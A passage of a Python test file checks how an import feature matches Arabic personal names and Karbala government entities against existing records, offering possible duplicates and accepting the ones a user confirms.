            ["مريم جواد كاظم الخفاجي", "دائرة صحة كربلاء", ""],      # 6: offered (row 5)
            ["حيدر كاظم جواد البياتي", "دائرة ماء كربلاء", ""]]      # 7: a namesake: new
    table = parse_text("\n".join("\t".join(r) for r in rows))
    mapping = guess_mapping(table)
    the_plan = plan(db, table, mapping, workshop.id)
    assert [r.status for r in the_plan.rows] == ["new", "new", "matched", "new", "new", "new"]
    offered = {d.row: d for d in the_plan.possible_duplicates}
    assert set(offered) == {2, 6}
    assert (offered[2].matched_id, offered[2].matched_name, offered[2].reason) == (
        four.id, "علي عبد الزهرة كاظم الموسوي", "بداية الاسم نفسها والجهة نفسها")
    assert (offered[6].matched_row, offered[6].name) == (5, "مريم جواد كاظم الخفاجي")
    # Row 4 has row 3's phone: a match, as any same phone is.
    assert the_plan.rows[2].duplicate.matched_row == 3

    # Offered, not decided: applied as it is, both are new persons, and said so.
    before = store.count(db, records.Person)
    result = importer.apply(db, the_plan)
    assert result.added == 5 and store.count(db, records.Person) == before + 5
    assert [d.row for d in result.possible_duplicates] == [2, 6]
    assert result.as_json()["possible_duplicates"][0]["matched_id"] == four.id


def test_an_offered_duplicate_the_user_confirms_is_matched(db, workshop):
    four = store.insert(db, records.Person(full_name="علي عبد الزهرة كاظم الموسوي",
                                           entity="مديرية تربية كربلاء"))
    rows = [["الاسم", "الجهة"], ["علي عبدالزهرة كاظم", "مديرية تربية كربلاء"]]
    table = parse_text("\n".join("\t".join(r) for r in rows))
    the_plan = plan(db, table, guess_mapping(table), workshop.id, same_as={2: four.id})
    assert the_plan.rows[0].status == "matched"
    assert the_plan.rows[0].duplicate.matched_id == four.id
    result = importer.apply(db, the_plan, same_as={2: four.id})
    assert (result.added, result.matched, result.possible_duplicates) == (0, 1, [])
    assert on_list(db, workshop.id) == ["علي عبد الزهرة كاظم الموسوي"]
